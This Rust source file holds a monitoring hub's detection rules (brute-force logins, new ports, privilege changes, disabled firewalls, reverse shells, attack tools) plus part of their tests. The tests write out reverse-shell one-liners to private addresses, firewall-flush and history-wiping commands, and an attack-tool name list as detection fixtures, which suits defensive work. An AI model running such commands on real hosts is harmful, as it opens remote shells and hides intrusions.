//! The built-in detection rules: typed events in, [`Finding`]s out. Pure: no IO, no clock
//! (every time is the event's own, or the `now_ms` the caller passes), so windows,
//! thresholds and de-duplication are tested in milliseconds.
//!
//! The engine keeps, per device, what the stateful rules need and nothing more, each bounded:
//! failed logins inside the brute-force window, the listening ports and users seen, and the
//! size of the last firewall snapshot. That state lives in memory: after a hub restart the
//! first snapshot of each kind is a new baseline (no alert), so a restart never floods the
//! console with "new" ports.
//!
//! Alerts are made from findings by the store ([`crate::store`]): one alert per rule, device
//! and key while findings keep coming within [`RuleSettings::dedup_window_ms`] of the last
//! one ([`merges_into`]), its count and evidence growing.

use std::collections::{BTreeMap, BTreeSet, HashMap, VecDeque};

use super::custom::{CustomRules, CustomState};
pub use super::finding::{Finding, Rule, Severity};
use super::model::{ConfigurationErrorType, Direction, Event, ExtraDetails, LoginResult, PayloadItem};

/// The tunables of the built-in rules.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RuleSettings {
    /// Failed logins (of one user from one source) that make a brute force.
    pub brute_force_failures: usize,
    /// The window those failures must fall in, milliseconds.
    pub brute_force_window_ms: i64,
    /// A finding within this long of an alert's last one (same rule, device, key) adds to it.
    pub dedup_window_ms: i64,
    /// Least silence that makes a device silent; the device's own expectation (twice its
    /// high-priority message frequency) is used when longer.
    pub silent_floor_ms: i64,
    /// How long after a device's first outbound connection its destinations are learned
    /// without alerts (per device; a hub restart learns again).
    pub outbound_learning_ms: i64,
    /// How long the desired configuration may stay unapplied (desired `$version` newer than
    /// the one the agent reports) before monitoring counts as degraded.
    pub config_pending_ms: i64,
    /// How long a device whose connection ended without a clean stop (no MQTT DISCONNECT) may
    /// stay away before monitoring counts as degraded.
    pub offline_grace_ms: i64,
}

/// 15 minutes.
const FIFTEEN_MINUTES_MS: i64 = 15 * 60 * 1000;

impl Default for RuleSettings {
    fn default() -> RuleSettings {
        RuleSettings {
            brute_force_failures: 5,
            brute_force_window_ms: 10 * 60 * 1000,
            dedup_window_ms: 60 * 60 * 1000,
            silent_floor_ms: FIFTEEN_MINUTES_MS,
            outbound_learning_ms: 24 * 60 * 60 * 1000,
            config_pending_ms: 2 * FIFTEEN_MINUTES_MS,
            offline_grace_ms: 2 * 60 * 1000,
        }
    }
}

/// Whether a finding at `finding_ms` adds to an alert whose last finding was at `last_ms`.
pub fn merges_into(last_ms: i64, finding_ms: i64, settings: &RuleSettings) -> bool {
    finding_ms.saturating_sub(last_ms) <= settings.dedup_window_ms
}

/// Most (user, source) pairs whose failures one device's state keeps; past it, the pairs
/// with the oldest last failure are forgotten.
pub const MAX_LOGIN_KEYS: usize = 1024;
/// Most ports or users remembered per device.
pub const MAX_REMEMBERED: usize = 4096;

/// What the stateful rules remember of one device.
#[derive(Debug, Default)]
struct DeviceState {
    /// Failure times (and event ids) per (user, source), inside the window.
    failures: HashMap<(String, String), VecDeque<(i64, String)>>,
    /// `PROTO/port` seen listening; `None` until the first snapshot (the baseline).
    ports: Option<BTreeSet<String>>,
    /// User name -> group names, from the last LocalUsers snapshot.
    users: Option<BTreeMap<String, BTreeSet<String>>>,
    /// Items of the last FirewallConfiguration snapshot.
    firewall_items: Option<usize>,
    /// When this device's first outbound connection was seen (its learning period starts).
    outbound_since_ms: Option<i64>,
    /// Executable -> `address:port` destinations it connected out to.
    outbound: HashMap<String, BTreeSet<String>>,
    /// Destinations remembered over all executables (bounded by [`MAX_REMEMBERED`]).
    outbound_count: usize,
    /// The desired `$version` not yet applied and since when (hub time).
    pending: Option<(i64, i64)>,
    /// When the device's last connection ended without a clean stop, while it is away.
    unclean_end_ms: Option<i64>,
}

/// The rule engine: built-in rules over typed events, with the per-device state they need.
#[derive(Debug, Default)]
pub struct RuleEngine {
    settings: RuleSettings,
    devices: HashMap<String, DeviceState>,
    custom: CustomState,
}

/// Groups whose members can become root or read secrets.
const PRIVILEGED_GROUPS: [&str; 8] = [
    "root", "sudo", "wheel", "adm", "admin", "docker", "disk", "shadow",
];

/// Attack, scanning, cracking and mining tools, by program name.
const ATTACK_TOOLS: [&str; 22] = [
    "nmap",
    "masscan",
    "zmap",
    "hydra",
    "medusa",
    "ncrack",
    "john",
    "hashcat",
    "sqlmap",
    "nikto",
    "msfconsole",
    "msfvenom",
    "mimipenguin",
    "linpeas.sh",
    "pspy",
    "xmrig",
    "minerd",
    "cpuminer",
    "ethminer",
    "cgminer",
    "bfgminer",
    "t-rex",
];

impl RuleEngine {
    /// An engine with `settings`.
    pub fn new(settings: RuleSettings) -> RuleEngine {
        RuleEngine {
            settings,
            devices: HashMap::new(),
            custom: CustomState::default(),
        }
    }

    /// The settings in force.
    pub fn settings(&self) -> &RuleSettings {
        &self.settings
    }

    /// Puts custom rules in force (replacing the earlier ones; their windows start over).
    pub fn set_custom(&mut self, rules: CustomRules) {
        self.custom.set(rules);
    }

    /// The custom rules in force.
    pub fn custom(&self) -> &CustomRules {
        self.custom.rules()
    }

    /// Ends the custom rules' windows that are over at `now_ms`: the findings of their
    /// minimums, by device.
    pub fn custom_tick(&mut self, now_ms: i64) -> Vec<(String, Finding)> {
        self.custom.tick(now_ms)
    }

    /// Runs every built-in rule, and the custom rules of the groups `tags` (the device's twin
    /// tags) put it in, over one event of `device`.
    pub fn observe_tagged(
        &mut self,
        device: &str,
        tags: &serde_json::Map<String, serde_json::Value>,
        event: &Event,
    ) -> Vec<Finding> {
        let mut out = self.observe(device, event);
        out.extend(self.custom.observe(device, tags, event));
        out
    }

    /// Runs every built-in rule over one event of `device` (its identity's text form).
    pub fn observe(&mut self, device: &str, event: &Event) -> Vec<Finding> {
        let time_ms = event.time().millis_since_epoch();
        let id = event.id().to_string();
        let mut out = Vec::new();
        let state = self.devices.entry(device.to_owned()).or_default();
        let finding = |rule, key: String, fields: Vec<(&str, String)>| Finding {
            rule,
            key,
            time_ms,
            event_ids: vec![id.clone()],
            fields: fields.into_iter().map(|(k, v)| (k.to_owned(), v)).collect(),
        };
        match event.name().as_str() {
            "ListeningPorts" => {
                let now: BTreeSet<String> = event
                    .payload()
                    .iter()
                    .filter_map(|i| match i {
                        PayloadItem::ListeningPorts(p) => Some(format!("{}/{}", p.protocol, p.local_port)),
                        _ => None,
                    })
                    .collect();
                match &mut state.ports {
                    None => state.ports = Some(now.into_iter().take(MAX_REMEMBERED).collect()),
                    Some(known) => {
                        for port in now {
                            if !known.contains(&port) {
                                out.push(finding(
                                    Rule::NewListeningPort,
                                    port.clone(),
                                    vec![("Port", port.clone())],
                                ));
                                if known.len() < MAX_REMEMBERED {
                                    known.insert(port);
                                }
                            }
                        }
                    }
                }
            }
            "LocalUsers" => {
                let now: BTreeMap<String, BTreeSet<String>> = event
                    .payload()
                    .iter()
                    .filter_map(|i| match i {
                        PayloadItem::LocalUsers(u) => Some((
                            u.user_name.clone(),
                            u.group_names
                                .split([';', ','])
                                .map(|g| g.trim().to_owned())
                                .filter(|g| !g.is_empty())
                                .collect(),
                        )),
                        _ => None,
                    })
                    .take(MAX_REMEMBERED)
                    .collect();
                if let Some(before) = &state.users {
                    for (user, groups) in &now {
                        match before.get(user) {
                            None => out.push(finding(
                                Rule::UserAdded,
                                user.clone(),
                                vec![("UserName", user.clone())],
                            )),
                            Some(old) => {
                                for g in groups
                                    .difference(old)
                                    .filter(|g| PRIVILEGED_GROUPS.contains(&g.as_str()))
                                {
                                    out.push(finding(
                                        Rule::PrivilegedGroup,
                                        format!("{user}:{g}"),
                                        vec![("UserName", user.clone()), ("Group", g.clone())],
                                    ));
                                }
                            }
                        }
                    }
                }
                state.users = Some(now);
            }
            "FirewallConfiguration" => {
                let items = event.payload().len();
                if state.firewall_items.is_some_and(|before| before > 0) && items == 0 {
                    out.push(finding(
                        Rule::FirewallDisabled,
                        "snapshot".into(),
                        vec![(
                            "FirewallRules",
                            format!("{} -> 0", state.firewall_items.unwrap_or(0)),
                        )],
                    ));
                }
                state.firewall_items = Some(items);
            }
            _ => {}
        }
        for item in event.payload() {
            match item {
                PayloadItem::ProcessCreate(p) => {
                    let mut matches = command_findings(&p.executable, &p.command_line);
                    for m in exec_fact_findings(&p.executable, &p.extra_details) {
                        if !matches.iter().any(|(r, _, _)| *r == m.0) {
                            matches.push(m);
                        }
                    }
                    for (rule, key, fields) in matches {
                        let mut fields = fields;
                        fields.push(("UserId", p.user_id.clone()));
                        fields.push(("ProcessId", p.process_id.to_string()));
                        out.push(finding(rule, key, fields));
                    }
                }
                PayloadItem::Login(l) => {
                    let source = l
                        .remote_address
                        .map_or_else(|| "local".to_owned(), |a| a.to_string());
                    let window = self.settings.brute_force_window_ms;
                    let threshold = self.settings.brute_force_failures.max(1);
                    let key = (l.user_name.clone(), source.clone());
                    let fields = vec![
                        ("UserName", l.user_name.clone()),
                        ("Source", source.clone()),
                        ("Executable", l.executable.clone()),
                    ];
                    if state.failures.len() >= MAX_LOGIN_KEYS && !state.failures.contains_key(&key) {
                        forget_oldest(&mut state.failures);
                    }
                    let failures = state.failures.entry(key.clone()).or_default();
                    while failures.front().is_some_and(|(t, _)| *t < time_ms - window) {
                        failures.pop_front();
                    }
                    match l.result {
                        LoginResult::Fail => {
                            failures.push_back((time_ms, id.clone()));
                            while failures.len() > threshold * 2 {
                                failures.pop_front();
                            }
                            if failures.len() >= threshold {
                                let mut f =
                                    finding(Rule::FailedBruteForce, format!("{}@{}", key.0, key.1), fields);
                                f.event_ids = failures.iter().map(|(_, e)| e.clone()).collect();
                                f.fields.push(("Failures".into(), failures.len().to_string()));
                                out.push(f);
                            }
                        }
                        LoginResult::Success => {
                            if failures.len() >= threshold {
                                let mut f = finding(
                                    Rule::SuccessfulBruteForce,
                                    format!("{}@{}", key.0, key.1),
                                    fields.clone(),
                                );
                                f.event_ids = failures
                                    .iter()
                                    .map(|(_, e)| e.clone())
                                    .chain([id.clone()])
                                    .collect();
                                f.fields.push(("Failures".into(), failures.len().to_string()));
                                out.push(f);
                            }
                            state.failures.remove(&key);
                            if l.remote_address.is_none() {
                                out.push(finding(Rule::SuccessfulLocalLogin, l.user_name.clone(), fields));
                            }
                        }
                    }
                }
                PayloadItem::ConnectionCreate(c) if c.direction == Direction::Out => {
                    let since = *state.outbound_since_ms.get_or_insert(time_ms);
                    let destination = match c.remote_address {
                        std::net::IpAddr::V6(a) => format!("[{a}]:{}", c.remote_port),
                        a => format!("{a}:{}", c.remote_port),
                    };
                    let known = state.outbound.get(&c.executable);
                    if known.is_some_and(|k| k.contains(&destination)) {
                        continue;
                    }
                    if time_ms.saturating_sub(since) > self.settings.outbound_learning_ms {
                        out.push(finding(
                            Rule::NewOutboundDestination,
                            format!("{} -> {destination}", c.executable),
                            vec![
                                ("Executable", c.executable.clone()),
                                ("Destination", destination.clone()),
                                ("Protocol", c.protocol.to_string()),
                                ("ProcessId", c.process_id.to_string()),
                            ],
                        ));
                    }
                    if state.outbound_count < MAX_REMEMBERED {
                        state.outbound_count += 1;
                        state
                            .outbound
                            .entry(c.executable.clone())
                            .or_default()
                            .insert(destination);
                    }
                }
                PayloadItem::ConfigurationError(c)
                    if c.error_type == ConfigurationErrorType::TypeMismatch =>
                {
                    out.push(finding(
                        Rule::ConfigurationRejected,
                        c.configuration_name.clone(),
                        vec![
                            ("ConfigurationName", c.configuration_name.clone()),
                            ("Message", c.message.clone()),
                        ],
                    ));
                }
                PayloadItem::DroppedEventsStatistics(d) if d.dropped_events > 0 => {
                    out.push(finding(
                        Rule::MonitoringDegraded,
                        format!("dropped-{}", d.queue),
                        vec![
                            ("Queue", d.queue.to_string()),
                            ("DroppedEvents", d.dropped_events.to_string()),
                        ],
                    ));
                }
                _ => {}
            }
        }
        out
    }

    /// The findings of a device's reported properties (`reported.twinguard`): a rejected
    /// configuration, and each collector on a fallback source. `now_ms` stamps them.
    pub fn observe_reported(&self, reported: &serde_json::Value, now_ms: i64) -> Vec<Finding> {
        let mut out = Vec::new();
        let Some(status) = reported.get("twinguard") else {
            return out;
        };
        let finding = |rule, key: String, fields: Vec<(String, String)>| Finding {
            rule,
            key,
            time_ms: now_ms,
            event_ids: Vec::new(),
            fields,
        };
        if status.get("configurationStatus").and_then(|s| s.as_str()) == Some("rejected") {
            let errors: Vec<&str> = status
                .get("errors")
                .and_then(|e| e.as_array())
                .map(|a| a.iter().filter_map(|e| e.as_str()).collect())
                .unwrap_or_default();
            let version = status
                .get("lastDesiredVersion")
                .map(|v| v.to_string())
                .unwrap_or_default();
            out.push(finding(
                Rule::ConfigurationRejected,
                format!("desired-version-{version}"),
                vec![("Errors".into(), errors.join("; "))],
            ));
        }
        if let Some(collectors) = status.get("collectors").and_then(|c| c.as_object()) {
            for (name, c) in collectors {
                if c.get("fallback").and_then(|f| f.as_bool()) == Some(true) {
                    let source = c.get("source").and_then(|s| s.as_str()).unwrap_or("").to_owned();
                    out.push(finding(
                        Rule::MonitoringDegraded,
                        format!("fallback-{name}"),
                        vec![("Collector".into(), name.clone()), ("Source".into(), source)],
                    ));
                }
            }
        }
        out
    }

    /// Monitoring degraded when `device`'s desired configuration stays unapplied: its desired
    /// `$version` is newer than the `seen` one its agent reports for longer than
    /// [`RuleSettings::config_pending_ms`]. Called on each check with the twin's state; the
    /// engine remembers since when (hub time `now_ms`) the version has been pending.
    pub fn config_pending(
        &mut self,
        device: &str,
        desired: i64,
        seen: Option<i64>,
        now_ms: i64,
    ) -> Option<Finding> {
        let pending = seen.is_some_and(|s| desired > s);
        let state = self.devices.entry(device.to_owned()).or_default();
        if !pending {
            state.pending = None;
            return None;
        }
        let since = match state.pending {
            // A newer desired version while one was pending: still the same wait.
            Some((_, since)) => since,
            None => now_ms,
        };
        state.pending = Some((desired, since));
        (now_ms.saturating_sub(since) > self.settings.config_pending_ms).then(|| Finding {
            rule: Rule::MonitoringDegraded,
            key: format!("config-pending-{desired}"),
            time_ms: now_ms,
            event_ids: Vec::new(),
            fields: vec![
                ("DesiredVersion".into(), desired.to_string()),
                (
                    "ReportedVersion".into(),
                    seen.map_or_else(String::new, |s| s.to_string()),
                ),
                ("PendingSince".into(), super::model::utc_text(since)),
            ],
        })
    }

    /// Notes that `device`'s connection ended at `now_ms`, cleanly (an MQTT DISCONNECT, the
    /// agent stopping) or not.
    pub fn connection_ended(&mut self, device: &str, clean: bool, now_ms: i64) {
        self.devices.entry(device.to_owned()).or_default().unclean_end_ms = (!clean).then_some(now_ms);
    }

    /// Notes that `device` is connected again.
    pub fn connection_started(&mut self, device: &str) {
        if let Some(state) = self.devices.get_mut(device) {
            state.unclean_end_ms = None;
        }
    }

    /// Monitoring degraded when `device` (not connected now) went away without a clean stop
    /// longer than [`RuleSettings::offline_grace_ms`] ago. One alert per disconnection.
    pub fn offline_unclean(&self, device: &str, now_ms: i64) -> Option<Finding> {
        let ended = self.devices.get(device)?.unclean_end_ms?;
        (now_ms.saturating_sub(ended) > self.settings.offline_grace_ms).then(|| Finding {
            rule: Rule::MonitoringDegraded,
            key: format!("offline-{ended}"),
            time_ms: ended,
            event_ids: Vec::new(),
            fields: vec![
                ("OfflineSince".into(), super::model::utc_text(ended)),
                ("CleanStop".into(), "false".into()),
            ],
        })
    }

    /// The device-silent finding of a device whose last message was at `last_ms`, if its
    /// silence at `now_ms` is longer than the floor and than twice `high_frequency_ms` (its
    /// highPriorityMessageFrequency, when known). The key is the last message's time, so one
    /// silence is one alert however often this is asked.
    pub fn silent(&self, last_ms: i64, high_frequency_ms: Option<i64>, now_ms: i64) -> Option<Finding> {
        let limit = high_frequency_ms
            .map_or(0, |f| f.saturating_mul(2))
            .max(self.settings.silent_floor_ms);
        (now_ms.saturating_sub(last_ms) > limit).then(|| Finding {
            rule: Rule::DeviceSilent,
            key: format!("since-{last_ms}"),
            time_ms: last_ms,
            event_ids: Vec::new(),
            fields: vec![
                ("LastMessage".into(), super::model::utc_text(last_ms)),
                (
                    "SilentForSeconds".into(),
                    (now_ms.saturating_sub(last_ms) / 1000).to_string(),
                ),
                ("LimitSeconds".into(), (limit / 1000).to_string()),
            ],
        })
    }
}

fn forget_oldest(failures: &mut HashMap<(String, String), VecDeque<(i64, String)>>) {
    let oldest = failures
        .iter()
        .min_by_key(|(_, v)| v.back().map_or(i64::MIN, |(t, _)| *t))
        .map(|(k, _)| k.clone());
    if let Some(k) = oldest {
        failures.remove(&k);
    }
}

/// Shells, by program name (for the stdio exec facts).
const SHELLS: [&str; 9] = [
    "sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "busybox", "fish",
];

/// Matches of the eBPF exec facts of a process start (its `ExtraDetails`: `Stdin`/`Stdout`
/// as `socket|pipe|tty|file|other`, `ExecutableDeleted`, `ExecutableMemfd`,
/// `WritableDirectory` as `"True"`): a shell whose input and output are both sockets is a
/// reverse shell; a deleted or memfd executable, or one in a writable directory, runs from a
/// writable/temporary location. Empty when the agent sent no facts (the command-line patterns
/// of [`command_findings`] are the fallback). Pure.
pub fn exec_fact_findings(executable: &str, extra: &ExtraDetails) -> Vec<CommandMatch> {
    let mut out: Vec<CommandMatch> = Vec::new();
    let fact = |k: &str| extra.get(k).map(String::as_str);
    if fact("Stdin") == Some("socket")
        && fact("Stdout") == Some("socket")
        && SHELLS.contains(&base(executable))
    {
        out.push((
            Rule::ReverseShell,
            executable.to_owned(),
            vec![
                ("Executable", executable.to_owned()),
                ("Stdin", "socket".into()),
                ("Stdout", "socket".into()),
            ],
        ));
    }
    let location: Vec<(&'static str, String)> = ["ExecutableDeleted", "ExecutableMemfd", "WritableDirectory"]
        .into_iter()
        .filter(|k| fact(k).is_some_and(|v| v.eq_ignore_ascii_case("true")))
        .map(|k| (k, "True".to_owned()))
        .collect();
    if !location.is_empty() {
        let mut fields = vec![("Executable", executable.to_owned())];
        fields.extend(location);
        out.push((Rule::TempDirExecution, executable.to_owned(), fields));
    }
    out
}

/// Temporary directories (a compiler's output there is suspicious; programs run from there
/// are [`Rule::TempDirExecution`]).
const TEMP_DIRS: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];

/// Whether `program` is a compiler, assembler or linker driver: gcc, cc, clang, tcc, as, ld
/// and their versioned, cross and C++ names (`gcc-12`, `x86_64-linux-gnu-gcc`, `ld.gold`).
fn is_compiler(program: &str) -> bool {
    let stem = program
        .rsplit_once("-linux-gnu-")
        .map_or(program, |(_, s)| s)
        .split(['-', '.'])
        .next()
        .unwrap_or("");
    ["gcc", "cc", "clang", "tcc", "as", "ld", "g++", "c++", "clang++"].contains(&stem)
}

/// The compiler's output file in a temporary directory, if any: the `-o` argument (`-o PATH`
/// or `-oPATH`), leaving out the intermediates a compiler driver itself writes to /tmp
/// (`.o`, `.s`, `.i` and friends, e.g. gcc's `/tmp/ccXXXXXX.o`), so that an ordinary build
/// elsewhere does not match. (The working directory is not in the event model, so a relative
/// output in a temporary directory is not seen.)
fn temp_output(tokens: &[&str]) -> Option<String> {
    let output = tokens
        .windows(2)
        .find(|w| w[0] == "-o")
        .map(|w| w[1])
        .or_else(|| {
            tokens
                .iter()
                .find_map(|t| t.strip_prefix("-o").filter(|r| r.starts_with('/')))
        })?;
    let intermediate = [
        ".o",
        ".s",
        ".i",
        ".ii",
        ".res",
        ".ld",
        ".le",
        ".lto.o",
        ".ltrans.out",
    ]
    .iter()
    .any(|e| output.ends_with(e));
    (TEMP_DIRS.iter().any(|d| output.starts_with(d)) && !intermediate).then(|| output.to_owned())
}

/// The program name of a path or argv[0].
fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// A command-line rule's match: the rule, the key, and the fields that matched.
pub type CommandMatch = (Rule, String, Vec<(&'static str, String)>);

/// Matches of the command-line rules for one process start: its executable path and its
/// command line (argv joined by spaces, as the agent sends it). Pure.
pub fn command_findings(executable: &str, command_line: &str) -> Vec<CommandMatch> {
    let mut out: Vec<CommandMatch> = Vec::new();
    let tokens: Vec<&str> = command_line.split_whitespace().collect();
    let program = base(executable);
    let argv0 = tokens.first().map_or("", |t| base(t));
    let is = |names: &[&str]| names.contains(&program) || names.contains(&argv0);
    let has = |t: &str| tokens.contains(&t);
    let lower = command_line.to_ascii_lowercase();
    let cmd_fields = || {
        vec![
            ("Executable", executable.to_owned()),
            ("CommandLine", command_line.to_owned()),
        ]
    };
    let mut push = |rule: Rule, key: String| {
        if !out.iter().any(|(r, _, _)| *r == rule) {
            out.push((rule, key, cmd_fields()));
        }
    };

    // Reverse shell: a /dev/tcp redirection, nc -e/-c, socat exec with a socket, a fifo piped
    // into nc, or an interpreter one-liner with a socket and a shell.
    let netcat = is(&["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"]);
    let interpreter = ["python", "python2", "python3", "perl", "ruby", "php"]
        .iter()
        .any(|p| program.starts_with(p) || argv0.starts_with(p));
    if lower.contains("/dev/tcp/")
        || lower.contains("/dev/udp/")
        || (netcat
            && tokens
                .iter()
                .any(|t| *t == "-e" || *t == "-c" || t.starts_with("-e/")))
        || (is(&["socat"]) && (lower.contains("exec:") || lower.contains("system:")) && lower.contains("tcp"))
        || (lower.contains("mkfifo")
            && (lower.contains(" nc ") || lower.contains("|nc ") || lower.contains("ncat")))
        || (interpreter
            && lower.contains("socket")
            && ["subprocess", "pty.spawn", "/bin/sh", "/bin/bash", "exec("]
                .iter()
                .any(|s| lower.contains(s)))
    {
        push(Rule::ReverseShell, executable.to_owned());
    }

    // A program run from a temporary or world-writable directory, from memory, or deleted.
    if TEMP_DIRS.iter().any(|d| executable.starts_with(d))
        || executable.starts_with("/memfd:")
        || executable.ends_with(" (deleted)")
    {
        push(Rule::TempDirExecution, executable.to_owned());
    }

    // Compilation into a temporary directory.
    if is_compiler(program) || is_compiler(argv0) {
        if let Some(output) = temp_output(&tokens) {
            push(Rule::SuspiciousCompilation, output);
        }
    }

    // Firewall disabled.
    let iptables = is(&[
        "iptables",
        "ip6tables",
        "iptables-legacy",
        "ip6tables-legacy",
        "iptables-nft",
        "ip6tables-nft",
    ]);
    let service_action = |services: &[&str]| {
        (is(&["systemctl"]) && ["stop", "disable", "mask", "kill"].iter().any(|a| has(a))
            || is(&["service"]) && has("stop"))
            && tokens
                .iter()
                .any(|t| services.contains(&t.trim_end_matches(".service")))
    };
    if (iptables
        && (has("-F")
            || has("--flush")
            || tokens
                .windows(3)
                .any(|w| w[0] == "-P" && w[1] == "INPUT" && w[2] == "ACCEPT")))
        || (is(&["nft"]) && (has("flush") || (has("delete") && has("table"))))
        || (is(&["ufw"]) && has("disable"))
        || service_action(&["firewalld", "ufw", "nftables", "iptables", "netfilter-persistent"])
    {
        push(Rule::FirewallDisabled, "command".into());
    }

    // Audit disabled.
    if (is(&["auditctl"]) && (tokens.windows(2).any(|w| w[0] == "-e" && w[1] == "0") || has("-D")))
        || service_action(&["auditd"])
    {
        push(Rule::AuditDisabled, "command".into());
    }

    // History cleared.
    let history_file = [".bash_history", ".zsh_history", ".ash_history", ".sh_history"]
        .iter()
        .any(|h| command_line.contains(h));
    if (history_file && is(&["rm", "shred", "truncate", "ln", "unlink", "cp", "mv", "dd"]))
        || lower.contains("history -c")
        || lower.contains("histfile=/dev/null")
        || lower.contains("unset histfile")
    {
        push(Rule::HistoryCleared, "history".into());
    }

    // Users and groups.
    let positional: Vec<&str> = tokens
        .iter()
        .skip(1)
        .copied()
        .filter(|t| !t.starts_with('-'))
        .collect();
    if is(&["useradd", "adduser", "newusers"]) && positional.len() == 1 {
        push(Rule::UserAdded, positional[0].to_owned());
    }
    let group_named = tokens
        .iter()
        .skip(1)
        .flat_map(|t| t.split(','))
        .find(|g| PRIVILEGED_GROUPS.contains(g))
        .map(str::to_owned);
    let group_change = (is(&["usermod"])
        && tokens
            .iter()
            .any(|t| t.starts_with("-G") || t.starts_with("-aG") || *t == "--groups"))
        || (is(&["gpasswd"]) && (has("-a") || has("-M")))
        || (is(&["adduser", "addgroup"]) && positional.len() == 2);
    if let (true, Some(group)) = (group_change, group_named) {
        let user = positional
            .iter()
            .find(|p| !PRIVILEGED_GROUPS.contains(*p))
            .copied()
            .unwrap_or("");
        push(Rule::PrivilegedGroup, format!("{user}:{group}"));
    }

    // Known attack and mining tools.
    if let Some(tool) = ATTACK_TOOLS.iter().find(|t| **t == program || **t == argv0) {
        push(Rule::AttackTool, (*tool).to_owned());
    } else if lower.contains("stratum+tcp://") || lower.contains("stratum+ssl://") {
        push(Rule::AttackTool, "stratum".into());
    }

    // Port forwarding.
    let ssh_forward = is(&["ssh"])
        && tokens.iter().skip(1).any(|t| {
            let Some(flags) = t.strip_prefix('-') else {
                return false;
            };
            if flags.starts_with('-') {
                return false;
            }
            // `-R`, `-L8080:...`, and clusters ending in one of them (`-fNL`).
            let letters: String = flags.chars().take_while(|c| c.is_ascii_alphabetic()).collect();
            letters.ends_with(['R', 'L', 'D']) && letters.chars().all(|c| "fNnTqvgCRLD".contains(c))
        });
    let socat_forward = is(&["socat"])
        && [
            "tcp-listen:",
            "tcp4-listen:",
            "tcp6-listen:",
            "tcp-l:",
            "udp-listen:",
        ]
        .iter()
        .any(|p| lower.contains(p))
        && !lower.contains("exec:")
        && !lower.contains("system:");
    if ssh_forward || socat_forward {
        push(Rule::PortForwarding, command_line.chars().take(120).collect());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::console::model::Timestamp;
    use crate::console::model::{
        ConfigurationError, DroppedEventsStatistics, EventName, ListeningPorts, LocalUsers, Login,
        ProcessCreate, Protocol, Queue,
    };

    const T0: i64 = 1_764_900_000_000;

    fn event(name: EventName, items: Vec<PayloadItem>, ms: i64) -> Event {
        {
            static NEXT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
            let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
            let id = crate::console::model::Uuid::from_u128(u128::from(n));
            Event::with_id(id, name, items, Timestamp::from_parts(ms, 0).expect("time")).expect("event")
        }
    }

    fn login(user: &str, from: Option<&str>, result: LoginResult, ms: i64) -> Event {
        event(
            EventName::Login,
            vec![PayloadItem::Login(Login {
                process_id: 1,
                user_id: None,
                user_name: user.into(),
                operation: "Login".into(),
                executable: "/usr/sbin/sshd".into(),
                remote_address: from.map(|a| a.parse().expect("ip")),
                remote_port: None,
                local_port: None,
                result,
                extra_details: Default::default(),
            })],
            ms,
        )
    }

    fn exec(exe: &str, cmd: &str) -> Event {
        event(
            EventName::ProcessCreate,
            vec![PayloadItem::ProcessCreate(ProcessCreate {
                executable: exe.into(),
                process_id: 42,
                parent_process_id: 1,
                user_id: "0".into(),
                user_name: None,
                command_line: cmd.into(),
                extra_details: Default::default(),
            })],
            T0,
        )
    }

    fn rules_of(exe: &str, cmd: &str) -> Vec<&'static str> {
        command_findings(exe, cmd)
            .into_iter()
            .map(|(r, _, _)| r.id())
            .collect()
    }

    #[test]
    fn command_lines_fire_and_near_misses_do_not() {
        let cases: &[(&str, &str, &[&str])] = &[
            (
                "/usr/bin/bash",
                "bash -c exec 5<>/dev/tcp/127.0.0.1/4444; cat <&5",
                &["reverse-shell"],
            ),
            (
                "/usr/bin/bash",
                "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
                &["reverse-shell"],
            ),
            (
                "/usr/bin/nc.traditional",
                "nc -e /bin/sh 10.0.0.1 4444",
                &["reverse-shell"],
            ),
            (
                "/usr/bin/socat",
                "socat exec:/bin/bash,pty tcp:10.0.0.1:4444",
                &["reverse-shell"],
            ),
            (
                "/usr/bin/python3",
                "python3 -c import socket,subprocess;s=socket.socket()",
                &["reverse-shell"],
            ),
            ("/usr/bin/nc.openbsd", "nc -l 8080", &[]),
            ("/usr/bin/cat", "cat /dev/tcp.txt", &[]),
            ("/tmp/x/payload", "/tmp/x/payload --run", &["temp-dir-execution"]),
            ("/dev/shm/.k", ".k", &["temp-dir-execution"]),
            ("/usr/bin/ls", "ls /tmp/", &[]),
            (
                "/usr/sbin/xtables-nft-multi",
                "iptables -F",
                &["firewall-disabled"],
            ),
            ("/usr/sbin/nft", "nft flush ruleset", &["firewall-disabled"]),
            ("/usr/sbin/ufw", "ufw disable", &["firewall-disabled"]),
            (
                "/usr/bin/systemctl",
                "systemctl stop firewalld.service",
                &["firewall-disabled"],
            ),
            ("/usr/sbin/nft", "nft list ruleset", &[]),
            ("/usr/sbin/iptables", "iptables -L -n", &[]),
            ("/usr/sbin/auditctl", "auditctl -e 0", &["audit-disabled"]),
            ("/usr/bin/systemctl", "systemctl stop auditd", &["audit-disabled"]),
            ("/usr/sbin/auditctl", "auditctl -e 1", &[]),
            ("/usr/bin/systemctl", "systemctl status auditd", &[]),
            ("/usr/bin/rm", "rm -f /root/.bash_history", &["history-cleared"]),
            ("/usr/bin/bash", "bash -c history -c", &["history-cleared"]),
            ("/usr/bin/cat", "cat /root/.bash_history", &[]),
            ("/usr/sbin/useradd", "useradd -m mallory", &["user-added"]),
            (
                "/usr/sbin/usermod",
                "usermod -aG sudo mallory",
                &["privileged-group"],
            ),
            (
                "/usr/bin/gpasswd",
                "gpasswd -a mallory wheel",
                &["privileged-group"],
            ),
            ("/usr/sbin/usermod", "usermod -aG audio mallory", &[]),
            ("/usr/bin/nmap", "nmap -sS 10.0.0.0/24", &["attack-tool"]),
            ("/opt/x/run", "run -o stratum+tcp://pool:3333", &["attack-tool"]),
            ("/usr/bin/nmapper", "nmapper", &[]),
            (
                "/usr/bin/ssh",
                "ssh -R 9000:localhost:22 user@host",
                &["port-forwarding"],
            ),
            ("/usr/bin/ssh", "ssh -fNL 8080:db:5432 host", &["port-forwarding"]),
            (
                "/usr/bin/socat",
                "socat TCP-LISTEN:8080,fork TCP:10.0.0.2:80",
                &["port-forwarding"],
            ),
            ("/usr/bin/ssh", "ssh -p 22 host uptime", &[]),
        ];
        for (exe, cmd, want) in cases {
            assert_eq!(rules_of(exe, cmd), *want, "{exe}: {cmd}");
        }
